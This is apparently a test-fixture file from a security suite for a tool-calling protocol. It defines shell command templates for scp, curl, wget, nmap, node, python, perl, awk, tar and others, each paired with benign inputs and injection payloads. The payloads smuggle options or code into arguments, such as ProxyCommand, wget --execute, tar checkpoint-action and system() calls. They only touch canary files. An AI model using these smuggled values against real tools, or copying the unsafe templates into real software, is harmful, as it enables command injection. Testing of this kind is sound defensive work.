  {"file": "Local file"},
  "scp -q -o BatchMode=yes -o ConnectTimeout=2 UTCP_ARG_file_UTCP_END deploy@staging:/srv/drop/; echo rc=$?", "exec",
  payload={"file": "-oProxyCommand=touch {C}"}, benign={"file": "a.txt"}, setup="echo a > a.txt", skip=True, prog=["scp"],
  idiom="scp file -> -oProxyCommand (real ssh runs it)")
T(M, "http_fetch_status", "Fetch a local status page and save it under snapshots/.",
  {"name": "Snapshot name"},
  "mkdir -p snapshots && curl -fsS -o snapshots/UTCP_ARG_name_UTCP_END.json file:///tmp/blindF_run/status.json && ls snapshots", "write",
  setup="echo '{\"ok\":true}' > status.json", payload={"name": ESC + "_curl"}, check="exists('/tmp/blindF_probe_w_curl.json')",
  benign={"name": "now"}, prog=["curl"], idiom="-o path escape")
T(M, "http_get_json", "GET a JSON document from a URL and pretty print it.",
  {"url": "URL"},
  "curl -fsS --max-time 5 --proto =http,https,file -- UTCP_ARG_url_UTCP_END | jq .", "safe",
  setup="echo '{\"ok\":true}' > status.json", benign={"url": "file:///tmp/blindF_run/status.json"}, ok="'ok' in str(out)",
  prog=["curl", "jq"], idiom="curl -- url")
T(M, "http_get_header", "GET a URL with a custom header.",
  {"header": "Header line", "url": "URL"},
  "curl -fsS -H UTCP_ARG_header_UTCP_END -- UTCP_ARG_url_UTCP_END", "safe", setup="echo hi > s.txt",
  benign={"header": "Accept: text/plain", "url": "file:///tmp/blindF_run/s.txt"}, ok="'hi' in out", optok=[("curl", "-H")],
  prog=["curl"], idiom="-H consumes value", skip=True)
T(M, "wget_mirror_page", "Download a page into the mirror directory.",
  {"url": "URL"},
  "wget -q -P mirror UTCP_ARG_url_UTCP_END", "option", payload={"url": "--execute=output_document=/tmp/blindF_probe_x"},
  check="argv('wget')[0][-1].startswith('--execute=')", benign={"url": "http://127.0.0.1:8000/"}, prog=["wget"],
  idiom="url -> --execute wgetrc command", skip=True)
T(M, "nmap_top_ports", "Scan the top 100 ports of a host in the lab network.",
  {"target": "Target host"},
  "nmap -Pn --top-ports 100 UTCP_ARG_target_UTCP_END", "option", payload={"target": "-oN/tmp/blindF_probe_nmap"},
  check="argv('nmap')[0][-1]=='-oN/tmp/blindF_probe_nmap'", benign={"target": "10.0.0.5"}, prog=["nmap"],
  idiom="target -> -oN output file")
T(M, "whois_domain", "WHOIS lookup of a domain.",
  {"domain": "Domain"},
  "whois -- UTCP_ARG_domain_UTCP_END | head -20", "safe", benign={"domain": "example.org"}, prog=["whois"], idiom="--")
T(M, "ping_hosts", "Ping a host from a list of hosts (space separated) once each.",
  {"host": "Host"},
  "for h in UTCP_ARG_host_UTCP_END; do ping -c1 -W1 \"$h\"; done", "broken", benign={"host": "127.0.0.1"},
  check="exc is not None", prog=["ping"], idiom="$h eaten by client")
T(M, "ldap_find_user", "Find an LDAP user by uid.",
  {"uid": "User id"},
  "ldapsearch -x -LLL -b dc=acme,dc=org \"(uid=UTCP_ARG_uid_UTCP_END)\" cn mail", "safe", skip=True)
T(M, "snmp_sysdescr", "Read sysDescr of a device via SNMP v2c.",
  {"device": "Device address"},
  "snmpget -v2c -c public UTCP_ARG_device_UTCP_END SNMPv2-MIB::sysDescr.0", "option",
  payload={"device": "-Le"}, check="False", skip=True)

# ---------------------------------------------------------------- language runtimes
M = "lang_runtimes"
T(M, "node_semver_check", "Check whether a version satisfies a range (node one-liner).",
  {"version": "Version", "range": "Range"},
  "node -e \"const [a,b]='UTCP_ARG_version_UTCP_END'.split('.').map(Number); console.log(a>=1 ? 'ok' : 'old', 'UTCP_ARG_range_UTCP_END')\"",
  "exec", payload={"version": "1.0';require('child_process').execSync('touch {C}');'", "range": "^1"},
  benign={"version": "1.2.3", "range": "^1"}, prog=["node"], idiom="value inside JS string in node -e")
T(M, "node_upper", "Upper-case a string with node.",
  {"text": "Text"},
  "node -e 'console.log(process.argv[1].toUpperCase())' -- UTCP_ARG_text_UTCP_END", "safe", benign={"text": "abc"},
  ok="out.strip()=='ABC'", prog=["node"], idiom="process.argv hard negative")
T(M, "node_require_report", "Run the report script with a preload module for instrumentation.",
  {"module": "Module to preload"},
  "node --require UTCP_ARG_module_UTCP_END scripts/report.js", "exec",
  setup="mkdir -p scripts && echo 'console.log(\"report\")' > scripts/report.js && echo 'require(\"fs\").writeFileSync(process.env.HOME+\"/../blindF_canary_node_require_report\",\"\")' > /tmp/blindF_run/evil.js",
  payload={"module": "/tmp/blindF_run/evil.js"}, benign={"module": "./scripts/report.js"}, skip=True)
T(M, "tcl_double", "Double a number with a tclsh expression.",
  {"n": "Number"},
  "echo 'puts [expr {UTCP_ARG_n_UTCP_END * 2}]' | tclsh", "exec", payload={"n": "[exec touch {C}]"},
  benign={"n": "21"}, prog=["tclsh"], idiom="tcl expr [exec] in piped script (sq)")
T(M, "tcl_double_argv", "Double a number with tclsh (value via argv).",
  {"n": "Number"},
  "tclsh <(echo 'puts [expr {[string is double -strict [lindex $argv 0]] ? [lindex $argv 0] * 2 : \"NaN\"}]') UTCP_ARG_n_UTCP_END",
  "broken", benign={"n": "21"}, check="exc is not None", prog=["tclsh"], idiom="$argv eaten by client")
T(M, "bc_calc", "Evaluate an arithmetic expression with bc (scale 4).",
  {"expr": "Expression"},
  "echo \"scale=4; UTCP_ARG_expr_UTCP_END\" | bc -l", "safe", benign={"expr": "10/4"}, ok="'2.5000' in out",
  prog=["bc"], idiom="bc has no exec/write primitive")
T(M, "expr_add", "Add two integers with expr.",
  {"a": "integer:a", "b": "integer:b"},
  "expr UTCP_ARG_a_UTCP_END + UTCP_ARG_b_UTCP_END", "safe", benign={"a": "2", "b": "3"}, ok="out.strip()=='5'",
  optok=[("expr", "+"), ("expr", "")], prog=["expr"], idiom="expr operands")
T(M, "python_heredoc_wc", "Count words of a text with a python heredoc script.",
  {"text": "Text"},
  "python3 - <<EOF\ntext = \"\"\"UTCP_ARG_text_UTCP_END\"\"\"\nprint(len(text.split()))\nEOF\necho counted", "exec",
  payload={"text": "\"\"\"; __import__('os').system('touch {C}'); x = \"\"\""}, benign={"text": "a b c"}, prog=["python3"],
  idiom="unquoted heredoc python source")
T(M, "python_json_key", "Read a key from a JSON config with python.",
  {"key": "Key"},
  "python3 -c 'import json,sys; print(json.load(open(\"config.json\")).get(sys.argv[1], \"\"))' UTCP_ARG_key_UTCP_END", "safe",
  setup="echo '{\"port\": 8080}' > config.json", benign={"key": "port"}, ok="out.strip()=='8080'", argvok=["python3"], prog=["python3"],
  idiom="sys.argv")
T(M, "python_module_run", "Run a python module from the project (python -m).",
  {"module": "Module"},
  "python3 -m UTCP_ARG_module_UTCP_END --help", "skip", skip=True)
T(M, "perl_rename_ext", "Rename *.txt files in out/ to a new extension.",
  {"ext": "New extension"},
  "cd out && for f in *.txt; do mv -- \"$f\" \"${f%.txt}.UTCP_ARG_ext_UTCP_END\"; done; ls", "broken",
  setup="mkdir -p out && touch out/a.txt", benign={"ext": "md"}, check="exc is not None", prog=["mv"],
  idiom="$f eaten by client")
T(M, "perl_inplace_version", "Replace a version string in all .cfg files with perl -pi.",
  {"old": "Old version", "new": "New version"},
  "perl -pi -e 's/\\QUTCP_ARG_old_UTCP_END\\E/UTCP_ARG_new_UTCP_END/g' *.cfg && cat *.cfg", "exec",
  setup="echo v=1.0 > a.cfg", payload={"old": "1.0", "new": "x/;system(\"touch {C}\");s/y/z"}, benign={"old": "1.0", "new": "1.1"},
  prog=["perl"], idiom="value inside perl s/// code (sq)")
T(M, "ruby_yaml_keys", "List the top-level keys of a YAML file with ruby.",
  {"file": "YAML file"},
  "ruby -ryaml -e 'puts YAML.load_file(ARGV[0]).keys' -- UTCP_ARG_file_UTCP_END", "safe", benign={"file": "c.yaml"},
  prog=["ruby"], idiom="ARGV")
T(M, "php_lint", "Syntax-check a PHP file.",
  {"file": "PHP file"},
  "php -l UTCP_ARG_file_UTCP_END", "option", payload={"file": "-dauto_prepend_file=/tmp/blindF_probe_x.php"},
  check="argv('php')[0][1]=='-dauto_prepend_file=/tmp/blindF_probe_x.php'", benign={"file": "index.php"}, prog=["php"],
  idiom="file -> -d ini setting", skip=True)
T(M, "lua_eval_config", "Evaluate a Lua config expression and print it.",
  {"expr": "Expression"},
  "lua -e \"print(UTCP_ARG_expr_UTCP_END)\"", "skip", skip=True)
T(M, "rscript_summary", "Summarise a numeric column of data.csv with R.",
  {"col": "Column name"},
  "Rscript -e \"d <- read.csv('data.csv'); print(summary(d[['UTCP_ARG_col_UTCP_END']]))\"", "skip", skip=True)
T(M, "java_prop_run", "Run the bundled CLI jar with a log level system property.",
  {"level": "Log level"},
  "java -Dlog.level=UTCP_ARG_level_UTCP_END -version 2>&1 | head -1", "safe", benign={"level": "INFO"}, prog=["java"],
  idiom="-Dkey=value single arg")
T(M, "awk_print_field_str", "Print a labelled summary line for a report title.",
  {"title": "Title"},
  "awk 'BEGIN { print \"Report: UTCP_ARG_title_UTCP_END\" }'", "exec", payload={"title": "\"; system(\"touch {C}\"); print \""},
  benign={"title": "Q3"}, prog=["awk"], idiom="placeholder in awk string inside sq program")
T(M, "awk_print_field_v", "Print a labelled summary line for a report title (value via ENVIRON-free -v).",
  {"title": "Title"},
  "awk -v t=UTCP_ARG_title_UTCP_END 'BEGIN { print \"Report: \" t }'", "safe", benign={"title": "Q3"},
  ok="'Report: Q3' in out", optok=[("awk", "-v")], prog=["awk"], idiom="awk -v")

# ---------------------------------------------------------------- additions (split / broken long tail)
T("repo_maint", "git_commit_signoff", "Commit staged changes with a message and a Signed-off-by trailer.",
  {"message": "Commit message"},
  "git commit --allow-empty -q -m \"$(printf \"%s\\n\\nSigned-off-by: release-bot\" \"UTCP_ARG_message_UTCP_END\")\" && git --no-pager log -1 --format=%B",
  "split", setup=GIT, payload={"message": "blindFsplitA blindFsplitB"},
  check="'blindFsplitA\\n\\nSigned-off-by: release-botblindFsplitB' in ' '.join(flat('git'))",
  benign={"message": "fix typo"}, prog=["git"], idiom="nested double quotes inside $( ) fool the quote tracker")
T("backups", "backup_copy_file", "Copy one file into backup/ (path read by xargs -I).",
  {"path": "File path"},
  "mkdir -p backup && printf '%s\\n' UTCP_ARG_path_UTCP_END | xargs -I{} cp -- {} backup/ && ls backup", "split",
  setup="touch blindFsplitA blindFsplitB 'my file.txt'", payload={"path": "blindFsplitA\nblindFsplitB"},
  check="len(argv('cp'))==2", benign={"path": "my file.txt"}, prog=["xargs", "cp"], idiom="xargs -I splits on newlines")
T("backups", "backup_list_tar_T", "Archive one listed path with tar reading the name list from stdin.",
  {"path": "Path to archive"},
  "printf '%s\\n' UTCP_ARG_path_UTCP_END | tar -czf one.tgz -T - && tar -tzf one.tgz", "exec",
  setup="touch a.txt", payload={"path": "--checkpoint=1\n--checkpoint-action=exec=touch {C}\na.txt"},
  benign={"path": "a.txt"}, prog=["tar"], idiom="tar -T list lines may be options", skip=True)
T("cloud_infra", "ansible_deploy_version", "Run the deploy playbook for an application version.",
  {"version": "Version to deploy"},
  "ansible-playbook -i inventory.ini deploy.yml -e app_version=UTCP_ARG_version_UTCP_END", "split",
  payload={"version": "1.2 ansible_become_user=root"}, check="argv('ansible-playbook')[0][-1]=='app_version=1.2 ansible_become_user=root'",
  benign={"version": "1.2.0"}, prog=["ansible-playbook"], idiom="ansible -e key=value string split on spaces")
T("sysadmin", "ls_dir_default", "List a directory (defaults to the current one).",
  {"dir": "Directory"},
  "d=UTCP_ARG_dir_UTCP_END; ls -la -- ${d:-.}", "split", setup="mkdir -p blindFsplitA blindFsplitB 'my dir'",
  payload={"dir": "blindFsplitA blindFsplitB"}, check="argv('ls')[0][-2:]==['blindFsplitA','blindFsplitB']",
  benign={"dir": "my dir"}, prog=["ls"], idiom="unquoted ${d:-.} survives client substitution and splits")
T("shell_idioms", "func_byte_count", "Count bytes of a file with a small helper function.",
  {"file": "File"},
  "count() { wc -c < ${1:-/dev/null}; }; count UTCP_ARG_file_UTCP_END", "split", setup="echo hi > 'a b'",
  payload={"file": "a b"}, check="'ambiguous redirect' in out", benign={"file": "/etc/hostname"}, prog=["wc"],
  idiom="unquoted ${1:-} in function body")
T("shell_idioms", "func_byte_count_q", "Count bytes of a file with a small helper function (quoted).",
  {"file": "File"},
  "count() { wc -c < \"${1:-/dev/null}\"; }; count UTCP_ARG_file_UTCP_END", "safe", setup="echo hi > 'a b'",
  benign={"file": "a b"}, ok="out.strip()=='3'", prog=["wc"], idiom="quoted ${1:-} hard negative")
T("data_wrangling", "csv_max_count", "Print the first rows of data.csv (max-count style argument).",
  {"max-count": "integer:rows"},
  "head -n UTCP_ARG_max-count_UTCP_END data.csv", "broken", setup=CSV, benign={"max-count": "2"},
  check="'invalid number' in str(out)", prog=["head"], idiom="hyphen in placeholder name never substituted")
T("log_analysis", "owner_report", "Print the owner's report header followed by a team name.",
  {"team": "Team"},
  "echo $'Owner\\'s report:\\n' UTCP_ARG_team_UTCP_END", "broken", benign={"team": "red"},
  check="'red' not in str(out)", prog=["bash"], idiom="$'..\\'..' ANSI-C quote fools the tracker")
T("release_eng", "docs_build_steps", "Build the docs in docs/ (cd then make).",
  {"target": "Make target"},
  [("cd docs", False), "make UTCP_ARG_target_UTCP_END"], "broken",
  setup="mkdir -p docs && printf 'html:\\n\\t@echo built\\n' > docs/Makefile", benign={"target": "html"},
  check="'built' not in str(out)", prog=["make"], idiom="cd in step 0 lost in step 1")
T("net_diag", "tls_expiry_days", "Days until the certificate in a PEM file expires.",
  {"cert": "PEM file"},
  [("openssl x509 -noout -enddate -in UTCP_ARG_cert_UTCP_END | cut -d= -f2", False),
   "echo $(( ( $(date -d \"${CMD_0_OUTPUT}\" +%s) - $(date +%s) ) / 86400 ))"], "broken",
  setup="openssl req -x509 -newkey rsa:2048 -nodes -keyout k.pem -out cert.pem -days 2 -subj /CN=t >/dev/null 2>&1",
  benign={"cert": "cert.pem"}, check="exc is not None", prog=["openssl", "date"], idiom="${CMD_0_OUTPUT} client-substituted")
T("net_diag", "tls_expiry_days_1step", "Days until the certificate in a PEM file expires.",
  {"cert": "PEM file"},
  "end=$(openssl x509 -noout -enddate -in UTCP_ARG_cert_UTCP_END | cut -d= -f2); echo $(( ( $(date -d \"${end:?}\" +%s) - $(date +%s) ) / 86400 ))",
  "safe", setup="openssl req -x509 -newkey rsa:2048 -nodes -keyout k.pem -out cert.pem -days 2 -subj /CN=t >/dev/null 2>&1",
  benign={"cert": "cert.pem"}, ok="out.strip() in ('1','2')", optok=[("openssl", "-in")], prog=["openssl", "date", "cut"],
  idiom="${end:?} survives client; one step")
